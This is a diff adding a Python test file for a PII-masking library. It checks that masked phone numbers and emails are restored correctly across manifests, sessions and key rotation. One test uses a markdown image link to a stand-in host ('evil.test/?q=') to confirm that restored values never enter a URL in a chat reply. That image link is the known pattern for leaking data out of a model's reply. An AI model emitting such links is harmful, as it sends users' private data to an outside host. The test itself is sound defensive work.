@@ -1,0 +1,185 @@
+"""What keyed operators wrote is known again by key or manifest: left alone by a second pass, undone by one restore."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from desensitize import Key, Masker
+from desensitize.errors import ConfigError, LeakError, RestoreError
+from desensitize.mask.manifest import Manifest
+from desensitize.operators import partial
+
+KEY = Key.generate()
+KEYED = ["keyed_token", "encrypt", "fpe"]
+PARTS = ["13800138000", "138 0013 8000", "+86-13800138000", "wang.yl@example.com", "6222021234567894", "11010519491231002X", "电话", "，",
+         " ", "call ", "\n", "x", "https://h.test/?p=", "姓名：王玉兰", "GB82WEST12345698765432", "<PHONE_1>", "١"]  # fmt: skip
+TEXTS = st.lists(st.sampled_from(PARTS), max_size=8).map("".join)
+
+
+@pytest.fixture(scope="module", params=KEYED)
+def operator(request: pytest.FixtureRequest) -> str:
+    if request.param == "fpe":
+        pytest.importorskip("ffx", reason="the extra fpe is not installed")
+    return str(request.param)
+
+
+@pytest.fixture(scope="module")
+def masker(operator: str) -> Masker:
+    return Masker(key=KEY, operators={"DEFAULT": operator}, recognizers=())
+
+
+@given(text=TEXTS)
+@settings(deadline=None, max_examples=60)
+def test_masked_twice_and_restored_once(masker: Masker, text: str) -> None:
+    manifest = Manifest(KEY, context="tenant")
+    first = masker.mask(text, manifest=manifest)
+    if "[" in first.text:  # fpe has no domain for it
+        return
+    assert not first.findings or first.restore() == text
+    kept = Manifest.from_json(manifest.to_json(), KEY)
+    second = masker.mask(first.text, manifest=kept)
+    if "<PHONE_1>" not in text:  # what looks like a token is escaped, and comes back with each result's own record
+        assert kept.restore(second.text) == text
+        # Where one value was masked, the next may be found that it had hidden; what was written stays.
+        assert second.text == first.text or len(kept) > len(manifest)
+
+
+@given(text=TEXTS)
+@settings(deadline=None, max_examples=40)
+def test_another_session_leaves_what_one_wrote(masker: Masker, text: str) -> None:
+    if "<PHONE_1>" in text:
+        return
+    manifest = Manifest(KEY)
+    with masker.session(manifest=manifest) as one, masker.session(manifest=manifest) as other:
+        masked = one.mask(text)
+        other.prove([("", masked, "")])
+        assert other.mask(masked) == masked
+        if "[" not in masked:  # fpe has no domain for it
+            assert one.restore(masked) == other.restore(masked) == text
+
+
+def test_a_value_is_no_output_because_a_manifest_says_so(masker: Masker) -> None:
+    manifest = Manifest(KEY)
+    masker.mask("call 13800138000", manifest=manifest)
+    document = json.loads(manifest.to_json())
+    for change in (
+        {"outputs": dict.fromkeys(document["outputs"], 9)},
+        {"context": "other"},
+        {"shapes": []},
+        {"glued": True},
+        {"how": [["X", "X", "redact", document["key_id"], True]]},
+        {"urls": ["https://evil.test/?p="]},
+        {"code": "0" * 64},
+        {"code": None},
+        {"format": 2},
+        {"key_id": None},
+    ):
+        with pytest.raises(ConfigError):
+            Manifest.from_json(json.dumps(document | change), KEY)
+    for text in ("", "[]", "{", "null", json.dumps({k: v for k, v in document.items() if k != "how"})):
+        with pytest.raises(ConfigError):
+            Manifest.from_json(text, KEY)
+
+
+def test_another_key_is_told_apart(masker: Masker) -> None:
+    manifest = Manifest(KEY)
+    masked = masker.mask("call 13800138000", manifest=manifest).text
+    with pytest.raises(RestoreError, match="which this key does not hold"):
+        Manifest.from_json(manifest.to_json(), Key.generate())
+    rotated = KEY.rotated()
+    assert Manifest.from_json(manifest.to_json(), rotated).restore(masked) == "call 13800138000"
+
+
+def test_a_turned_ring_goes_on_with_its_manifest(operator: str) -> None:
+    manifest, rotated = Manifest(KEY), KEY.rotated()
+    first = Masker(key=KEY, recognizers=()).mask("call 13800138000", operator=operator, manifest=manifest).text
+    later = Manifest.from_json(manifest.to_json(), rotated)
+    second = Masker(key=rotated, recognizers=()).mask("call 13900139000", operator=operator, manifest=later).text
+    again = Manifest.from_json(later.to_json(), rotated)
+    assert again.restore(f"{first} {second}") == "call 13800138000 call 13900139000"
+    again.key = rotated.only(rotated.key_id())
+    with pytest.raises(RestoreError):
+        again.restore(first)
+
+
+def test_no_value_and_no_output_stands_in_a_manifest(masker: Masker) -> None:
+    manifest = Manifest(KEY, context="c")
+    result = masker.mask("姓名：王玉兰，13800138000，wang.yl@example.com", manifest=manifest)
+    text = manifest.to_json()
+    assert result.text not in text
+    for part in ("王玉兰", "13800138000", "wang.yl", *result.text.split("，")[1:]):
+        assert part not in text
+    assert "138" not in repr(manifest)
+
+
+def test_another_context_is_another_output(masker: Masker, operator: str) -> None:
+    one, other = (masker.mask("call 13800138000", manifest=Manifest(KEY, context=name)).text for name in "ab")
+    assert one != other
+    if operator != "fpe":  # whose outputs only a manifest tells
+        assert masker.mask(one, manifest=Manifest(KEY, context="b")).text != one or "PHONE" in one
+
+
+def test_what_an_irreversible_operator_wrote_is_left_too() -> None:
+    masker, manifest = Masker(key=KEY, recognizers=()), Manifest(KEY)
+    hidden = partial(keep=(3, 4), fill="0")
+    first = masker.mask("call 13800138000", operator=hidden, manifest=manifest).text
+    assert first == "call 13800008000"
+    assert masker.mask(first, operator="redact", manifest=manifest).text == first
+    assert masker.mask(first, operator="redact").text == "call [PHONE_NUMBER]"
+    assert manifest.restore(first) == first
+
+
+def test_what_is_kept_is_not_passed_off_as_an_output() -> None:
+    masker, manifest = Masker(key=KEY, recognizers=()), Manifest(KEY)
+    masker.mask("call 13800138000", operator="keep", manifest=manifest)
+    assert masker.mask("call 13800138000", operator="redact", manifest=manifest).text == "call [PHONE_NUMBER]"
+
+
+def test_a_value_enters_no_url_that_a_reply_made(masker: Masker) -> None:
+    manifest = Manifest(KEY)
+    with masker.session(manifest=manifest) as talk:
+        masked = talk.mask("call 13800138000 or https://h.test/?p=13800138000")
+        output = masked.split()[1]
+        assert talk.restore(masked) == "call 13800138000 or https://h.test/?p=13800138000"
+        assert (
+            talk.restore(f"![x](https://evil.test/?q={output}) {output}")
+            == f"![x](https://evil.test/?q={output}) 13800138000"
+        )
+    result = masker.mask("call 13800138000")
+    output = result.text.split()[1]
+    assert (
+        result.restore(f"https://evil.test/?q={output} and {output}")
+        == f"https://evil.test/?q={output} and 13800138000"
+    )
+
+
+def test_in_a_reply_a_token_is_read_in_any_case() -> None:
+    result = Masker(key=KEY, recognizers=()).mask("call 13800138000", operator="keyed_token")
+    assert result.restore(f"Ring {result.text.split()[1].lower()}!") == "Ring 13800138000!"
+
+
+def test_a_number_that_touches_letters_comes_back(masker: Masker) -> None:
+    manifest = Manifest(KEY)
+    text = "Call x13800138000x or (138)00138000."
+    masked = masker.mask(text, manifest=manifest).text
+    assert manifest.restore(masked) == text
+
+
+def test_a_chat_refuses_what_it_could_not_stream(masker: Masker) -> None:
+    for door in (lambda: masker.wrap(print), masker.wire, lambda: masker.session().wrap(print), masker.httpx_transport):
+        with pytest.raises(ConfigError, match="in a chat use 'token'"):
+            door()
+    with pytest.raises(ConfigError):
+        list(masker.session().restore_stream(["x"]))
+
+
+def test_the_proof_stops_a_value_beside_an_output(masker: Masker) -> None:
+    manifest = Manifest(KEY)
+    with masker.session(manifest=manifest) as talk:
+        masked = talk.mask("call 13800138000")
+        with pytest.raises(LeakError):
+            talk.prove([("", f"{masked} 13900139000", "")])
